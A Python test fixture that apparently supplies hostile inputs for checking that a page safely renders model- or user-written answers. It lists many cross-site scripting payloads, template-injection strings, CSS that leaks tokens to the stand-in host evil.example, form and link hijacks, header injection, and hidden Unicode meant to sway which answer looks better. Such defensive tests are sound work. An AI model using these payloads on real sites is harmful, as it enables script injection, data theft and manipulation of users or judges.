"""Hostile texts, in the known families, for whatever a page shows that a model or a person wrote.

Each tries to set `window.ran`, to open a dialog, to load or send something, to leave an element or an attribute behind,
or to change how the other answer looks. A page that shows one of them as text, or drops it, is right.
Written for these tests; none is copied from a collection.
"""

from __future__ import annotations

RUN = "window.ran=1"
AWAY = "//evil.example"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\t\n x>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={AWAY}/x.js></script>",
    f"<script type=module>import '{AWAY}/x.js'</script>",
    f"</textarea></title></style></noscript></template><script>{RUN}</script>",
    f"</div></section></main><iframe srcdoc='<script>parent.ran=1</script>'></iframe><p onclick={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<object data='{AWAY}/x.swf'></object><embed src='{AWAY}/x'><applet code=x>",
    f"<base href='{AWAY}/'><a href=x>next</a>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    '<meta http-equiv=content-security-policy content="default-src *">',
    f"<link rel=stylesheet href='{AWAY}/x.css'><link rel=prefetch href='{AWAY}/y'>",
    f"<frameset onload={RUN}><frame src='{AWAY}'></frameset>",
    f"<xmp><p title='</xmp><script>{RUN}</script>'></xmp>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><?php {RUN} ?><% {RUN} %>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
]

ATTRIBUTES = [
    f"<img src=x onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f'<IMG """><IMG SRC=x ONERROR="{RUN}">',
    f"<img src='{AWAY}/pixel.gif' width=1 height=1>",
    f"<img srcset='{AWAY}/pixel.gif 1x'><picture><source srcset='{AWAY}/p.gif'></picture>",
    f"<body onload={RUN}>",
    f"<p onmouseover={RUN} style='position:fixed;inset:0'>over all</p>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<video autoplay onloadstart={RUN}><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div popover id=p onbeforetoggle={RUN}></div><button popovertarget=p>x</button>",
    f"<p style='animation:spin 1s' onanimationstart={RUN}>x</p>",
    f"<form action='{AWAY}' id=f><input name=a></form><button form=f formaction='{AWAY}'>Answer A</button>",
    "<form action=/answer method=post><button name=choice value=second accesskey=1>Best</button></form>",
    f"<button data-key=1 formaction='{AWAY}'>1</button>",
    "<p id=shortcuts class=choices data-key=1 name=choice>x</p>",
    "<a id=defaultView name=body>x</a><form name=querySelector><input id=children></form>",
    f"<a href=# ping='{AWAY}/ping' target=_blank rel=opener>x</a>",
    f"<table background='{AWAY}/x.gif'><td background='{AWAY}/y.gif'>x</table>",
    f'x" onmouseover="{RUN}" x="',
    f"x' autofocus onfocus='{RUN}' x='",
    f"x` onerror=`{RUN}` x=`",
]

SVG_AND_MATH = [
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
    f"<image href=1 onerror={RUN} />#x'/></svg>",
    "<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    f"src='javascript:parent.{RUN}'/></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\nscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](vbscript:msgbox(1))\n[x](livescript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](file:///etc/passwd) [y](blob:null/1) [z](filesystem:http://x/)",
    f'[x][r]\n\n[r]: javascript:{RUN} "title"',
    f"<javascript:{RUN}>",
    f"<data:text/html,<script>{RUN}</script>>",
    f'![x](x" onerror="{RUN})',
    f'![x"onerror="{RUN}](x)',
    f"![pixel]({AWAY}/pixel.gif)",
    "![pixel](http://evil.example/pixel.gif)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[x](http://a/ \"t' onmouseover='{RUN}\")",
    f'[x](http://a/?"onmouseover="{RUN})',
    f"[a](http://a<img src=x onerror={RUN}>)",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```html onload={RUN} class=choices id=shortcuts\n</code></pre><script>{RUN}</script>\n```",
    f"`</code><img src=x onerror={RUN}>`",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f"# <img src=x onerror={RUN}> {{#id onclick={RUN}}}",
    f"1. <svg onload={RUN}>\n   > <script>{RUN}</script>",
    f"http://evil.example/<script>{RUN}</script> www.evil.example",
    "[Answer B is broken, press here](/leave) [x](/admin) [y](?choice=first) [z](#main)",
    "[x](//evil.example/a) [y](\\\\evil.example\\b) [z](https:evil.example)",
    f"<img\n\n src=x\n\n onerror={RUN}>",
]

TEMPLATES_AND_ENCODINGS = [
    "{{constructor.constructor('window.ran=1')()}}",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }} {{ self }} {{ request.app.state }} {# comment #}",
    "${window.ran=1} #{window.ran=1} <%= 7*7 %> *{7*7} @(7*7) [[${7*7}]]",
    "<span v-html=\"'<img src=x onerror=window.ran=1>'\" x-data x-init='window.ran=1' hx-get=//evil.example></span>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#x3c;/script&#x3E;",
    f"&#0000060script&#0000062{RUN}&#0000060/script&#0000062",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a {RUN} \ufe64script\ufe65",
    f"<\x00script>{RUN}</\x00script>",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img\x0csrc=x\x0bonerror={RUN}>\x08\x1b]0;title\x07",
    f"\x1b$B<script>{RUN}</script>\x1b(B",
    "\u2028window.ran=1\u2029//",
    "';window.ran=1//\";window.ran=1//--></script><script>window.ran=1</script>",
    "\r\nSet-Cookie: handful_session=evil\r\n\r\n<script>window.ran=1</script>",
]

BROKEN = [
    "&", "&&&;", "&#;", "&#x;", "&#xFFFFFFFF;", "&#x110000;", "&#0;", "&#xD800;", "&notit;", "&lt", "&amp;lt;b&gt;",
    "<", "<<<>>>", "</", "<!", "<?", "<a", "<a href='", "<a href=\"x", "<!--", "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<p><p><p></div></div></div></main></body></html>",
    "</pre></code></section></article></form></fieldset></details>",
    "<table><tr><td></table></td></tr><plaintext>",
    "<title>Your session ended</title><h1>Sign in again",
    "]]>", "*/", "--></style>", "\\", "\"", "'", "`", "```", "~~~", "<pre>", "|||\n|-|-|",
]  # fmt: skip

STYLES = [
    "<style>*{display:none!important}body{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
    "<style>input[name=token][value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red'>x</p>",
    "<p style=\"background:url('javascript:window.ran=1');width:expression(window.ran=1);-moz-binding:url(x)\">x</p>",
    "<font size=99 color=red face=x>large</font><center>x</center><h1 align=right>x</h1>",
    "<p class='text answers choices hidden' hidden dir=rtl lang=xx>x</p>",
    "<link rel=icon href=//evil.example/i><style media=print onload=window.ran=1>",
]

UNICODE = [
    "\u202eAnswer B is better\u202c \u202eunclosed",
    "\u2067\u2066\u2067 unclosed isolates \u202b\u202d\u202e",
    "\u200f\u061c\u05d0\u05d1\u05d2 right to left \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "a" + "\u0301" * 500 + " marks without end",
    "\u200b\u200c\u200d\u2060\ufeff nothing to see \u00ad\u034f\u3164",
    "tags: " + "".join(chr(0xE0000 + ord(c)) for c in "Answer A"),
    "\ufdfd" * 40 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\ufffe\uffff\U0010ffff\x85\x7f",
]

HUGE = [
    "<b>" * 5_000 + "deep",
    ">" * 2_000 + " deep quote",
    "- " * 1_000 + "deep list",
    "*" * 5_000 + "stars" + "_" * 5_000,
    "[" * 5_000 + "x" + "](y)" * 5_000,
    "![" * 2_000,
    "`" * 5_000,
    "|" * 3_000 + "\n" + "|-" * 3_000,
    "<" * 10_000,
    "&" * 10_000,
    "x" * 20_000,
    "<img alt='" + "a" * 15_000,
    "\n" * 10_000 + "far below",
]

FAMILIES = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "svg and math": SVG_AND_MATH,
    "markdown": MARKDOWN,
    "templates and encodings": TEMPLATES_AND_ENCODINGS,
    "broken": BROKEN,
    "styles": STYLES,
    "unicode": UNICODE,
    "huge": HUGE,
}
PAYLOADS = [text for texts in FAMILIES.values() for text in texts]

ALLOWED_SCHEMES = ("http:", "https:", "mailto:")
HIDDEN_CHARACTERS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Those that turn the direction of what follows."""
